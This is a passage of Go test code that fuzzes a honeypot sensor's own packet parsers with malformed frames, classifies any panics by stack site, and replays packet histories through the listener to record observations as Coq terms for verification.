	siteTCPOptWalk = 16 // panic in tcp.Unmarshal past the fixed header: option walk / option store
	siteUnknown   = 90
)

// classify maps a panic (function names on its stack + the kind of runtime error) to a
// site code.  Of the message only the kind of runtime error and, for an index error, the index are used.
func classify(stack string, rec string) int {
	has := func(s string) bool { return strings.Contains(stack, s) }
	switch {
	case has("canary.(*Canary).knockDetector"):
		return siteKnock
	case has("canary.(*Canary).Decode") || has("canary.(*Canary).handleUDP.func") || has("canary.(*Canary).handleTCP.func"):
		return siteDecoder
	case has("canary.(*StateTable).Add"):
		return siteTableFull
	case has("canary.(*Canary).send"):
		return siteNoARP
	case has("ipv4.(*Header).Unmarshal"):
		return siteIPTotLen
	case has("tcp.(*Header).Unmarshal"):
		// data[1] in the option loop is the only index expression with index 1; the
		// fixed header fails on data[12] / data[13] or on a slice expression whose operand
		// has fewer than 20 bytes; everything else happens past the fixed header: in the walk
		// over the option area or in the store that receives its entries
		if strings.Contains(rec, "index out of range [1]") {
			return siteTCPOpt
		}
		if strings.Contains(rec, "index out of range") {
			if strings.Contains(rec, "index out of range [12]") || strings.Contains(rec, "index out of range [13]") {
				return siteTCPShort
			}
			return siteTCPOptWalk
		}
		if m := reSliceOperand.FindStringSubmatch(rec); m != nil {
			if n, err := strconv.Atoi(m[2]); err == nil && m[1] == "capacity" && n < 20 {
				return siteTCPShort
			}
			return siteTCPOptWalk
		}
		if strings.Contains(rec, "slice bounds out of range") {
			return siteTCPOptWalk // [a:b] with a > b: no fixed-header expression has that form
		}
		return siteTCPShort
	case has("icmp.Parse"):
		return siteICMP
	case has("udp.Unmarshal"):
		return siteUDP
	case has("arp.(*Frame).Unmarshal"):
		return siteARP
	case has("ethernet.(*Frame).Unmarshal"):
		return siteEth
	}
	return siteUnknown
}

// "slice bounds out of range [:21] with length 20": kind and size of the sliced operand
var reSliceOperand = regexp.MustCompile(`slice bounds out of range \[[0-9]*:[0-9]*:?[0-9]*\] with (capacity|length) ([0-9]+)`)

func exact(b []byte) []byte { // cap == len, as in the receive loop's copy
	c := make([]byte, len(b))
	copy(c, b)
	return c
}

// ---------------------------------------------------------------- part "parse"

const (
	pEth = 1 + iota
	pIPv4
	pTCP
	pUDP
	pICMP
	pARP
)

var parserNames = map[int]string{pEth: "eth", pIPv4: "ipv4", pTCP: "tcp", pUDP: "udp", pICMP: "icmp", pARP: "arp"}

type ParseIn struct {
	Parser int  `json:"parser"`
	Data   hx.B `json:"data"`
	Note   string `json:"note,omitempty"`
}

type ParseObs struct {
	Class int     `json:"class"` // 0 ok, 1 error, 2 panic
	Site  int     `json:"site"`
	Proj  []int64 `json:"proj"`
}

var csumSrc = net.IPv4(10, 1, 2, 3)
var csumDst = net.IPv4(127, 0, 0, 1)

func ip4val(ip net.IP) int64 {
	b := ip.To4()
	if b == nil {
		return -1
	}
	return int64(b[0])<<24 | int64(b[1])<<16 | int64(b[2])<<8 | int64(b[3])
}

func b2i(b bool) int64 {
	if b {
		return 1
	}
	return 0
}

func runParse(in ParseIn) (ob ParseObs) {
	data := exact(in.Data)
	defer func() {
		if rec := recover(); rec != nil {
			ob = ParseObs{Class: 2, Site: classify(string(debug.Stack()), fmt.Sprint(rec))}
		}
	}()
	switch in.Parser {
	case pEth:
		f, err := ethernet.Parse(data)
		if err != nil {
			return ParseObs{Class: 1}
		}
		return ParseObs{Proj: []int64{int64(f.Type), int64(len(f.Payload))}}
	case pIPv4:
		h, err := ipv4.Parse(data)
		if err != nil {
			return ParseObs{Class: 1}
		}
		return ParseObs{Proj: []int64{int64(h.Len), int64(h.TotalLen), int64(h.Protocol), ip4val(h.Src), ip4val(h.Dst), int64(len(h.Payload))}}
	case pTCP:
		h, err := tcp.Parse(data)
		// the handler's entry point: same parse plus the checksum verdict
		_, cerr := tcp.UnmarshalWithChecksum(exact(in.Data), csumDst, csumSrc)
		ob := ParseObs{}
		if err != nil {
			ob.Class = 1
		}
		// Options as the parser left them (also after an error: the entry of the failing
		// iteration is there): count, then kind and length of every entry
		ob.Proj = []int64{int64(h.Source), int64(h.Destination), int64(h.Ctrl), int64(h.DataOffset), int64(len(h.Options)), int64(len(h.Payload)), b2i(cerr == tcp.ErrInvalidChecksum)}
		for _, o := range h.Options {
			ob.Proj = append(ob.Proj, int64(o.OptionType), int64(o.OptionLength))
		}
		return ob
	case pUDP:
		h, err := udp.Unmarshal(data)
		if err != nil {
			return ParseObs{Class: 1}
		}
		return ParseObs{Proj: []int64{int64(h.Source), int64(h.Destination), int64(len(h.Payload))}}
	case pICMP:
		h, err := icmp.Parse(data)
		if err != nil {
			return ParseObs{Class: 1}
		}
		return ParseObs{Proj: []int64{int64(h.TypeCode)}}
	case pARP:
		h, err := arp.Parse(data)
		if err != nil {
			return ParseObs{Class: 1}
		}
		return ParseObs{Proj: []int64{int64(h.HardwareSize), int64(h.ProtocolSize)}}
	}
	hx.Fatal("unknown parser %d", in.Parser)
	return
}

func coqZs(xs []int64) string {
	var es []string
	for _, x := range xs {
		es = append(es, hx.CoqZ(x))
	}
	return hx.CoqList(es, "Z")
}

func coqParse(id int, in ParseIn, ob ParseObs) string {
	return fmt.Sprintf("mkP %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqZ(int64(in.Parser)), hx.CoqBytes(in.Data),
		hx.CoqZ(int64(ob.Class)), hx.CoqZ(int64(ob.Site)), coqZs(ob.Proj))
}

// ---- builders

func be16(v int) []byte { return []byte{byte(v >> 8), byte(v)} }
func be32(v uint32) []byte {
	return []byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
}

type ipOpt struct {
	ihl    int // 0..15
	totLen int // -1: correct
	proto  int
	src    [4]byte
	dst    [4]byte
}

func ipHeader(o ipOpt, payload []byte) []byte {
	ihl := o.ihl
	hl := 20
	if ihl*4 > 20 {
		hl = ihl * 4
	}
	tot := o.totLen
	if tot < 0 {
		tot = hl + len(payload)
	}
	b := []byte{byte(0x40 | ihl&15), 0}
	b = append(b, be16(tot)...)
	b = append(b, 0, 1, 0, 0, 64, byte(o.proto), 0, 0)
	b = append(b, o.src[:]...)
	b = append(b, o.dst[:]...)
	for len(b) < hl {
		b = append(b, 1) // option padding
	}
	return append(b, payload...)
}

var macMe = []byte{2, 0, 0, 0, 0, 1}
var macPeer = []byte{2, 0, 0, 0, 0, 2}

func ethFrame(etype int, payload []byte) []byte {
	b := append([]byte{}, macMe...)
	b = append(b, macPeer...)
	b = append(b, be16(etype)...)
	return append(b, payload...)
}

func udpSeg(sport, dport, length int, payload []byte) []byte {
	if length < 0 {
		length = 8 + len(payload)
	}
	b := append(be16(sport), be16(dport)...)
	b = append(b, be16(length)...)
	b = append(b, 0, 0)
	return append(b, payload...)
}

const (
	fFIN = 1
	fSYN = 2
	fRST = 4
	fPSH = 8
	fACK = 16
)

// tcpSeg: 20-byte header with the given data offset, then rest (options + payload).
func tcpSeg(sport, dport int, seq, ack uint32, off, flags int, rest []byte) []byte {
	b := append(be16(sport), be16(dport)...)
	b = append(b, be32(seq)...)
	b = append(b, be32(ack)...)
	b = append(b, byte(off<<4), byte(flags), 0xff, 0xff, 0, 0, 0, 0)
	return append(b, rest...)
}

// standard TCP checksum (RFC 793) over pseudo header + segment; written into seg[16:18]
func fixTCPChecksum(seg []byte, src, dst [4]byte) {
	if len(seg) < 18 {
		return
	}
	seg[16], seg[17] = 0, 0
	sum := uint32(src[0])<<8 + uint32(src[1]) + uint32(src[2])<<8 + uint32(src[3])
	sum += uint32(dst[0])<<8 + uint32(dst[1]) + uint32(dst[2])<<8 + uint32(dst[3])
	sum += 6 + uint32(len(seg))
	for i := 0; i+1 < len(seg); i += 2 {
		sum += uint32(seg[i])<<8 + uint32(seg[i+1])
	}
	if len(seg)%2 == 1 {
		sum += uint32(seg[len(seg)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	c := ^uint16(sum)
	seg[16], seg[17] = byte(c>>8), byte(c)
}

var ipMe = [4]byte{127, 0, 0, 1}

func genParse(r *hx.Rand, tier string) []ParseIn {
	var all []ParseIn
	var pool []ParseIn // sampled in the quick tier
	add := func(p int, d []byte, note string) { all = append(all, ParseIn{Parser: p, Data: hx.B(d), Note: note}) }
	opt := func(p int, d []byte, note string) { pool = append(pool, ParseIn{Parser: p, Data: hx.B(d), Note: note}) }

	// corpus: the witnesses of the repaired defects first
	w1 := make([]byte, 20)
	w1[0] = 0x45
	add(pIPv4, w1, "corpus:ipv4 total length 0")
	add(pTCP, make([]byte, 10), "corpus:tcp 10 bytes")
	add(pTCP, tcpSeg(1, 2, 0, 0, 6, fSYN, []byte{1, 1, 1, 2}), "corpus:tcp option kind 2 as last byte")
	a1 := make([]byte, 28)
	a1[4], a1[5] = 20, 20
	add(pARP, a1, "corpus:arp sizes 20/20 in 28 bytes")

	// ethernet: lengths around the header
	for _, n := range []int{14, 15, 34, 60, 1514, 1600} {
		add(pEth, r.Bytes(n), "eth")
	}
	for _, n := range []int{0, 6, 13} {
		add(pEth, r.Bytes(n), "eth-short")
	}

	// ipv4: IHL x total length x buffer length
	for ihl := 0; ihl <= 15; ihl++ {
		for _, blen := range []int{0, 19, 20, 21, 24, 40, 59, 60, 61, 100} {
			hl := ihl * 4
			for _, tot := range []int{0, 1, 19, 20, 21, hl - 1, hl, hl + 1, blen - 1, blen, blen + 1, 65535} {
				if tot < 0 {
					continue
				}
				b := make([]byte, blen)
				copy(b, r.Bytes(blen))
				if blen > 0 {
					b[0] = byte(0x40 | ihl)
				}
				if blen > 3 {
					b[2], b[3] = byte(tot>>8), byte(tot)
				}
				if blen > 9 {
					b[9] = byte(r.PickInt([]int{1, 6, 17, 2, 255}))
				}
				opt(pIPv4, b, "ipv4-boundary")
			}
		}
	}

	// tcp: data offset x length
	for off := 0; off <= 15; off++ {
		for _, n := range []int{0, 1, 12, 13, 14, 18, 19, 20, 21, 24, off*4 - 1, off * 4, off*4 + 1, 60, 61, 80} {
			if n < 0 {
				continue
			}
			b := r.Bytes(n)
			if n > 12 {
				b[12] = byte(off<<4) | b[12]&15
			}
			// structured option area: mostly NOPs so that the walk reaches the end
			for i := 20; i < n && i < off*4; i++ {
				b[i] = byte(r.PickInt([]int{1, 1, 1, 0, 2, 3, 4, 8}))
			}
			if r.Bool() {
				fixTCPChecksum(b, [4]byte{10, 1, 2, 3}, ipMe)
			}
			opt(pTCP, b, "tcp-offset-length")
		}
	}
	// tcp: every layout of 3 option bytes (+ one trailing byte), data offset 6
	vals := []int{0, 1, 2, 3, 4, 8, 255}
	for _, a := range vals {
		for _, b := range vals {
			for _, c := range vals {
				for _, d := range []int{0, 1, 2, 4} {
					seg := tcpSeg(40000, 80, 7, 0, 6, fSYN, []byte{byte(a), byte(b), byte(c), byte(d), 'x'})
					if (a+b+c+d)%2 == 0 {
						fixTCPChecksum(seg, [4]byte{10, 1, 2, 3}, ipMe)
					}
					opt(pTCP, seg, "tcp-options-3")
				}
			}
		}
	}
	// tcp: longer option areas, sampled
	nlong := 200
	if tier != "quick" {
		nlong = 3000
	}
	for i := 0; i < nlong; i++ {
		off := r.Range(6, 15)
		var o []byte
		for len(o) < (off-5)*4 {
			switch r.Intn(7) {
			case 0:
				o = append(o, 1)
			case 1:
				o = append(o, 0)
			case 2:
				o = append(o, 2, 4, byte(r.Intn(256)), byte(r.Intn(256)))
			case 3:
				o = append(o, 3, 3, 7)
			case 4:
				o = append(o, 8, 10)
				o = append(o, r.Bytes(8)...)
			case 5:
				o = append(o, byte(r.Range(2, 255)), byte(r.PickInt([]int{0, 1, 2, 3, 5, 40, 255})))
			default:
				o = append(o, byte(r.Range(2, 255)))
			}
		}
		o = o[:(off-5)*4]
		seg := tcpSeg(r.Intn(65536), r.Intn(65536), uint32(r.U64()), uint32(r.U64()), off, r.Intn(64), append(o, r.Bytes(r.Intn(20))...))
		if r.Bool() {
			fixTCPChecksum(seg, [4]byte{10, 1, 2, 3}, ipMe)
		}
		opt(pTCP, seg, "tcp-options-long")
	}

	// udp: length field vs. actual
	for _, n := range []int{0, 1, 4, 5, 6, 7, 8, 9, 28, 1472} {
		for _, l := range []int{n - 1, n, n + 1, 0, 8, 65535} {
			if l < 0 {
				continue
			}
			b := r.Bytes(n)
			if n >= 6 {
				b[4], b[5] = byte(l>>8), byte(l)
			}
			add(pUDP, b, "udp-length")
		}
	}
	for _, n := range []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 28, 64} {
		add(pICMP, r.Bytes(n), "icmp-length")
	}
	// arp: sizes vs. buffer
	for _, n := range []int{0, 27, 28, 29, 46, 87, 88, 89} {
		for _, hs := range []int{0, 6, 10, 20, 21, 255} {
			for _, ps := range []int{0, 4, 10, 20, 21} {
				b := r.Bytes(n)
				if n > 5 {
					b[4], b[5] = byte(hs), byte(ps)
				}
				opt(pARP, b, "arp-sizes")
			}
		}
	}
	// random bytes for every parser
	for p := pEth; p <= pARP; p++ {
		for i := 0; i < 25; i++ {
			n := r.PickInt([]int{14, 20, 28, 40, 60, 100, 1600})
			opt(p, r.Bytes(n), "random")
		}
	}

	// tcp: option areas that parse into MANY options (every count 0..40), all tiers
	for _, oc := range optionFamily(r, tier) {
		add(pTCP, oc.segment(r, [4]byte{10, 1, 2, 3}, ipMe), "tcp-options-many:"+oc.note)
	}

	if tier == "quick" {
		// deterministic sample of the pool
		want := 560
		for i := 0; i < want && len(pool) > 0; i++ {
			j := r.Intn(len(pool))
			all = append(all, pool[j])
			pool[j] = pool[len(pool)-1]
			pool = pool[:len(pool)-1]
		}
	} else {
		all = append(all, pool...)
	}
	return all
}

// ---------------------------------------------------------------- part "hist"

type RouteIn struct {
	Dest [4]byte `json:"dest"`
	Mask [4]byte `json:"mask"`
	Gw   [4]byte `json:"gw"`
}

type UEvent struct {
	Src     int64 `json:"src"`
	Dst     int64 `json:"dst"`
	SPort   int   `json:"sport"`
	DPort   int   `json:"dport"`
	Payload hx.B  `json:"payload"`
}

type HistIn struct {
	Mode   string    `json:"mode"` // inject | loop
	Arp    [][4]byte `json:"arp"`
	Routes []RouteIn `json:"routes"`
	// Rep > 0: the first frame is delivered Rep times (connection flood) before the rest
	Rep    int    `json:"rep"`
	Frames []hx.B `json:"frames"` // the last one is the probe
	Probe  UEvent `json:"probe"`
	// Steps: per-frame directions for connection histories (frame index -> wait before
	// sending; set the TCP acknowledgment number to ISS+AckRel of the connection the
	// frame belongs to, read from the state table through the hook)
	Steps []Step `json:"steps,omitempty"`
	Note  string `json:"note,omitempty"`
	// Child: run in a child process even in injection mode (goroutines of the listener
	// that may die without an effective recover: decoders, readers, knock detector)
	Child bool `json:"child,omitempty"`
	// Compact: only the probe is given to the model (the frames before it are a port scan
	// of thousands of frames; C02_probe_after_hostile covers every such prefix)
	Compact bool `json:"compact,omitempty"`
	// QuietMs: before the probe, stay silent for this long and then until the knock
	// detector has reported the scan (its 5 s report tick)
	QuietMs int `json:"quiet_ms,omitempty"`
	// SettleMs: after the probe was answered, give the decoder goroutines this long
	SettleMs int `json:"settle_ms,omitempty"`
}

type Step struct {
	Idx    int  `json:"idx"`
	WaitMs int  `json:"wait_ms,omitempty"`
	SetAck bool `json:"set_ack,omitempty"`
	// Poll: wait (loop mode: frames are processed asynchronously) until the connection
	// shows up in the state table; only for the segment right after the SYN
	Poll bool `json:"poll,omitempty"`
	AckRel int  `json:"ack_rel,omitempty"`
}

const siteHang = 11 // a frame was not processed within the bounded wait: the listener stopped making progress

// prepare applies the step (if any) for frame idx and returns the bytes to send
func prepare(v *canary.VerifCanary, in HistIn, idx int, f []byte) []byte {
	for _, st := range in.Steps {
		if st.Idx != idx {
			continue
		}
		if st.WaitMs > 0 {
			time.Sleep(time.Duration(st.WaitMs) * time.Millisecond)
		}
		if st.SetAck && len(f) >= 14+20+20 {
			src := net.IPv4(f[26], f[27], f[28], f[29])
			dst := net.IPv4(f[30], f[31], f[32], f[33])
			sport := uint16(f[34])<<8 | uint16(f[35])
			dport := uint16(f[36])<<8 | uint16(f[37])
			deadline := time.Now()
			if st.Poll && in.Mode == "loop" {
				deadline = deadline.Add(15 * time.Second)
			}
			for {
				if si := v.State(src, dst, sport, dport); si != nil {
					g := append([]byte(nil), f...)
					copy(g[14+20+8:], be32(si.ISS+uint32(st.AckRel)))
					return g
				}
				if time.Now().After(deadline) {
					break
				}
				time.Sleep(200 * time.Microsecond)
			}
		}
	}
	return f
}

type HistObs struct {
	Fatal   int      `json:"fatal"`    // 0 alive, else panic site
	FatalAt int      `json:"fatal_at"` // index in the expanded history, -1 unknown / alive
	Rets    []int64  `json:"rets"`     // inject: per processed frame 0 nil, 1 error, 2 panic
	Events  []UEvent `json:"events"`   // category "udp" events, sorted
	Count   int      `json:"count"`    // occupied state-table slots at the end (-1 unknown)
	Tx      int      `json:"tx"`       // inject, no flood: frames queued for transmission (-1 not observed)
	SpanMs  int64    `json:"span_ms"`
	Times   []int64  `json:"times"` // arrival offsets (ms) of the listed frames
	Stderr  string   `json:"stderr,omitempty"`
	Portscans int    `json:"portscans"` // portscan reports seen (evidence only)
}

type capture struct {
	mu       sync.Mutex
	evs      []UEvent
	portscan int
}

func (c *capture) portscans() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.portscan
}

// quiet: silence before the probe so that the knock detector's report tick fires
func quiet(in HistIn, cap *capture) {
	if in.QuietMs <= 0 {
		return
	}
	// first let the scan drain: every datagram's event follows its knock, and the detector
	// needs time linear in the number of ports already seen for each knock
	rest := in.Frames
	if in.Rep > 0 {
		rest = rest[1:]
	}
	want := expectEvents(rest[:len(rest)-1])
	drain := time.Now().Add(900 * time.Second)
	for cap.count() < want && time.Now().Before(drain) {
		time.Sleep(5 * time.Millisecond)
	}
	time.Sleep(time.Duration(in.QuietMs) * time.Millisecond)
	deadline := time.Now().Add(60 * time.Second)
	for cap.portscans() == 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	time.Sleep(50 * time.Millisecond)
}

func parseIP4(s string) int64 { return ip4val(net.ParseIP(s)) }

func (c *capture) Send(e event.Event) {
	if e.Get("category") == "portscan" {
		c.mu.Lock()
		c.portscan++
		c.mu.Unlock()
		return
	}
	if e.Get("category") != "udp" || e.Get("sensor") != "canary" {
		return
	}
	sp, dp := -1, -1
	e.Range(func(k, v interface{}) bool {
		if ks, ok := k.(string); ok {
			if ks == "source-port" {
				sp, _ = strconv.Atoi(fmt.Sprint(v))
			} else if ks == "destination-port" {
				dp, _ = strconv.Atoi(fmt.Sprint(v))
			}
		}
		return true
	})
	pl, _ := hex.DecodeString(e.Get("payload-hex"))
	c.mu.Lock()
	c.evs = append(c.evs, UEvent{Src: parseIP4(e.Get("source-ip")), Dst: parseIP4(e.Get("destination-ip")), SPort: sp, DPort: dp, Payload: hx.B(pl)})
	c.mu.Unlock()
}

func (c *capture) snapshot() []UEvent {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := append([]UEvent(nil), c.evs...)
	sort.Slice(out, func(i, j int) bool { return evKey(out[i]) < evKey(out[j]) })
	return out
}

func evKey(e UEvent) string {
	return fmt.Sprintf("%010d/%010d/%05d/%05d/%x", e.Src, e.Dst, e.SPort, e.DPort, []byte(e.Payload))
}

func (c *capture) has(p UEvent) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, e := range c.evs {
		if evKey(e) == evKey(p) {
			return true
		}
	}
	return false
}

func (c *capture) count() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.evs)
}

func newCanary(in HistIn, cap *capture) *canary.VerifCanary {
	var ac canary.ARPCache
	for _, a := range in.Arp {
		ac = append(ac, canary.ARPEntry{IP: net.IPv4(a[0], a[1], a[2], a[3]), HardwareAddress: net.HardwareAddr(macPeer), Interface: "lo"})
	}
	var rt canary.RouteTable
	for _, ro := range in.Routes {
		rt = append(rt, canary.Route{Interface: "lo", Gateway: net.IPv4(ro.Gw[0], ro.Gw[1], ro.Gw[2], ro.Gw[3]),
			Destination: net.IPNet{IP: net.IPv4(ro.Dest[0], ro.Dest[1], ro.Dest[2], ro.Dest[3]), Mask: net.IPv4Mask(ro.Mask[0], ro.Mask[1], ro.Mask[2], ro.Mask[3])}})
	}
	v, err := canary.NewVerifCanary("lo", ac, rt, cap)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	// the listener section of a configuration file, applied the way the server does: every
	// documented key, so that a key that starts to have an effect is exercised (do_arp is
	// ignored by the unchanged code: the field is unexported)
	var cfg struct {
		Listener toml.Primitive `toml:"listener"`
	}
	md, err := toml.Decode("[listener]\ntype=\"raw\"\ninterfaces=[\"lo\"]\ndo_arp=true\n", &cfg)
	if err != nil {
		hx.Fatal("toml: %v", err)
	}
	if err := listener.WithConfig(cfg.Listener, &md)(v.C); err != nil {
		hx.Fatal("listener config: %v", err)
	}
	return v
}

// expected number of "udp" events by construction: used only to know how long to wait
func expectEvents(frames []hx.B) int {
	n := 0
	for _, f := range frames {
		if looksLikeUDPToMe(f) {
			n++
		}
	}
	return n
}

// (waiting aid only: a datagram the default UDP path will report)
func looksLikeUDPToMe(f []byte) (yes bool) {
	defer func() {
		if recover() != nil {
			yes = false
		}
	}()
	if len(f) < 14+20+8 || f[12] != 8 || f[13] != 0 || f[14+9] != 17 {
		return false
	}
	iph, err := ipv4.Parse(exact(f[14:]))
	if err != nil || !bytes.Equal(iph.Dst.To4(), ipMe[:]) {
		return false
	}
	u, err := udp.Unmarshal(exact(iph.Payload))
	if err != nil {
		return false
	}
	switch u.Destination {
	case 53, 123, 1900, 5060, 161, 162:
		return false
	}
	return true
}

// runInject drives the real handlers synchronously (in this process).
func runInject(in HistIn) HistObs {
	cap := &capture{}
	v := newCanary(in, cap)
	defer v.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	v.StartKnockDetector(ctx)
	ob := HistObs{FatalAt: -1, Count: -1, Tx: -1}
	if in.Rep == 0 {
		ob.Tx = 0
	}
	start := time.Now()
	idx := 0
	conn := len(in.Steps) > 0 // connection history: reader goroutines transmit concurrently, the ring is not drained per frame
	if conn {
		ob.Tx = -1
	}
	inject := func(f []byte) (ret int64, fatal int) {
		defer func() {
			if rec := recover(); rec != nil {
				ret = 2
				fatal = classify(string(debug.Stack()), fmt.Sprint(rec))
			}
		}()
		if err := v.Inject(f); err != nil {
			ret = 1
		}
		return
	}
	one := func(f []byte) bool {
		var ret int64
		var fatal int
		if in.Rep > 0 {
			ret, fatal = inject(f)
		} else {
			// bounded wait: a handler that blocks (e.g. on a channel nobody reads) stops the
			// whole receive loop in the real listener
			done := make(chan struct{})
			go func() {
				ret, fatal = inject(f)
				close(done)
			}()
			select {
			case <-done:
			case <-time.After(hangWait()):
				atomic.StoreInt32(&hangSeen, 1)
				ob.Fatal, ob.FatalAt = siteHang, idx
				ob.Rets = append(ob.Rets, 3)
				return false
			}
		}
		if fatal != 0 {
			ob.Fatal, ob.FatalAt = fatal, idx
		}
		if in.Rep == 0 {
			ob.Rets = append(ob.Rets, ret)
		}
		idx++
		if !conn {
			if n := len(v.DrainTx()); in.Rep == 0 {
				ob.Tx += n
			}
		}
		return ret != 2
	}
	alive := true
	if in.Rep > 0 {
		for i := 0; i < in.Rep && alive; i++ {
			alive = one(in.Frames[0])
		}
		ob.SpanMs = time.Since(start).Milliseconds()
	}
	rest := in.Frames
	if in.Rep > 0 {
		rest = in.Frames[1:]
	}
	for i, f := range rest {
		if !alive {
			break
		}
		if i == len(rest)-1 {
			quiet(in, cap)
		}
		f = prepare(v, in, i, f)
		ob.Times = append(ob.Times, time.Since(start).Milliseconds())
		alive = one(f)
	}
	if alive {
		want := expectEvents(rest)
		deadline := time.Now().Add(eventWait)
		for cap.count() < want && time.Now().Before(deadline) {
			time.Sleep(200 * time.Microsecond)
		}
		time.Sleep(2 * time.Millisecond)
		time.Sleep(time.Duration(in.SettleMs) * time.Millisecond)
		ob.Count = v.StateCount()
	}
	ob.Events = cap.snapshot()
	ob.Portscans = cap.portscans()
	return ob
}

// childMain: the real Start() loop in this (child) process.
func childMain(path string) {
	if os.Getenv("C02_HANG_SEEN") != "" {
		atomic.StoreInt32(&hangSeen, 1)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintln(os.Stderr, "child: ", err)
		os.Exit(3)
	}
	var in HistIn
	if err := json.Unmarshal(raw, &in); err != nil {
		fmt.Fprintln(os.Stderr, "child: ", err)
		os.Exit(3)
	}
	if in.Mode == "inject" {
		ob := runInject(in)
		out, _ := json.Marshal(ob)
		fmt.Printf("\nC02-CHILD-RESULT %s\n", out)
		os.Exit(0)
	}
	cap := &capture{}
	v := newCanary(in, cap)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if err := v.C.Start(ctx); err != nil {
		fmt.Fprintln(os.Stderr, "child: start: ", err)
		os.Exit(3)
	}
	ob := HistObs{FatalAt: -1, Count: -1, Tx: -1}
	start := time.Now()
	write := func(f []byte) {
		for {
			_, err := syscall.Write(v.PeerFd, f)
			if err == syscall.EAGAIN || err == syscall.EINTR || err == syscall.ENOBUFS {
				time.Sleep(100 * time.Microsecond)
				continue
			}
			if err != nil {
				fmt.Fprintln(os.Stderr, "child: write: ", err)
				os.Exit(3)
			}
			return
		}
	}
	rest := in.Frames
	if in.Rep > 0 {
		for i := 0; i < in.Rep; i++ {
			write(in.Frames[0])
		}
		rest = in.Frames[1:]
	}
	for i, f := range rest {
		if i == len(rest)-1 {
			quiet(in, cap)
		}
		f = prepare(v, in, i, f)
		ob.Times = append(ob.Times, time.Since(start).Milliseconds())
		write(f)
	}
	// the loop handles frames in order: once the probe's event is there, everything
	// before it has been processed
	wait := hangWaitFirst
	if in.Rep > 0 {
		wait = 900 * time.Second
	}
	deadline := time.Now().Add(wait)
	for !cap.has(in.Probe) && time.Now().Before(deadline) {
		time.Sleep(500 * time.Microsecond)
	}
	ob.SpanMs = time.Since(start).Milliseconds()
	want := expectEvents(rest)
	d2 := time.Now().Add(eventWait)
	for cap.count() < want && time.Now().Before(d2) {
		time.Sleep(500 * time.Microsecond)
	}
	time.Sleep(time.Duration(in.SettleMs) * time.Millisecond)
	ob.Count = v.StateCount()
	ob.Events = cap.snapshot()
	ob.Portscans = cap.portscans()
	out, _ := json.Marshal(ob)
	fmt.Printf("\nC02-CHILD-RESULT %s\n", out)
	os.Exit(0)
}

// shrinkDeath: the history killed the child; try every frame alone (followed by the
// probe).  Only histories of plain frames are shrunk.
func shrinkDeath(in HistIn, scratch string, id int) (HistIn, HistObs, bool) {
	if in.Rep > 0 || len(in.Steps) > 0 || in.QuietMs > 0 || len(in.Frames) < 3 || len(in.Frames) > 300 {
		return in, HistObs{}, false
	}
	probe := in.Frames[len(in.Frames)-1]
	for k := 0; k < len(in.Frames)-1; k++ {
		s := in
		s.Frames = []hx.B{in.Frames[k], probe}
		s.Note = in.Note + " (shrunk to one frame)"
		ob, crash := runChild(s, scratch, id)
		if crash == "" && ob.Fatal != 0 {
			return s, ob, true
		}
	}
	return in, HistObs{}, false
}

// The verdict "hang" is given only after a generous wait: on a loaded machine a goroutine
// can be descheduled for seconds.  The wait costs time only when there IS a hang; after
// the first one the remaining cases use the short bound.
const (
	hangWaitFirst = 25 * time.Second
	hangWaitAfter = 2 * time.Second
	eventWait     = 25 * time.Second // for events that are expected by construction
)

var hangSeen int32

func hangWait() time.Duration {
	if atomic.LoadInt32(&hangSeen) != 0 {
		return hangWaitAfter
	}
	return hangWaitFirst
}

var reGoroutineFn = regexp.MustCompile(`(?m)^([A-Za-z0-9_./\-]+\.[A-Za-z0-9_.()*]+)\(`)

// runChild re-executes this binary; returns the child's observation or, when it died
// of a panic, the classified site.
var childSeq int64

func runChild(in HistIn, scratch string, id int) (HistObs, string) {
	path := filepath.Join(scratch, fmt.Sprintf("child_%d_%d.json", id, atomic.AddInt64(&childSeq, 1)))
	raw, _ := json.Marshal(in)
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		hx.Fatal("child input: %v", err)
	}
	defer os.Remove(path)
	ctx, cancel := context.WithTimeout(context.Background(), 1200*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], "-child", path)
	if atomic.LoadInt32(&hangSeen) != 0 {
		cmd.Env = append(os.Environ(), "C02_HANG_SEEN=1")
	}
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	start := time.Now()
	err := cmd.Run()
	if i := strings.LastIndex(so.String(), "C02-CHILD-RESULT "); i >= 0 && err == nil {
		var ob HistObs
		line := so.String()[i+len("C02-CHILD-RESULT "):]
		if j := strings.IndexByte(line, '\n'); j >= 0 {
			line = line[:j]
		}
		if e := json.Unmarshal([]byte(line), &ob); e != nil {
			hx.Fatal("child result: %v", e)
		}
		if ob.Fatal == siteHang {
			atomic.StoreInt32(&hangSeen, 1)
		}
		return ob, ""
	}
	if ctx.Err() != nil {
		return HistObs{FatalAt: -1, Count: -1, Tx: -1}, "child process hung (no result within 1200 s)"
	}
	stderr := se.String()
	ob := HistObs{FatalAt: -1, Count: -1, Tx: -1, SpanMs: time.Since(start).Milliseconds()}
	if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() == 3 {
		hx.Fatal("child could not set up: %s", stderr)
	}
	pi := strings.Index(stderr, "panic: ")
	if pi < 0 {
		tail := stderr
		if len(tail) > 300 {
			tail = tail[len(tail)-300:]
		}
		return ob, "child process died without a panic trace: " + fmt.Sprint(err) + " " + tail
	}
	trace := stderr[pi:]
	first := trace
	if j := strings.IndexByte(first, '\n'); j >= 0 {
		first = first[:j]
	}
	ob.Fatal = classify(trace, first)
	// keep only the function names of the panicking goroutine for the evidence
	var fns []string
	for _, m := range reGoroutineFn.FindAllStringSubmatch(trace, 12) {
		fns = append(fns, m[1])
	}
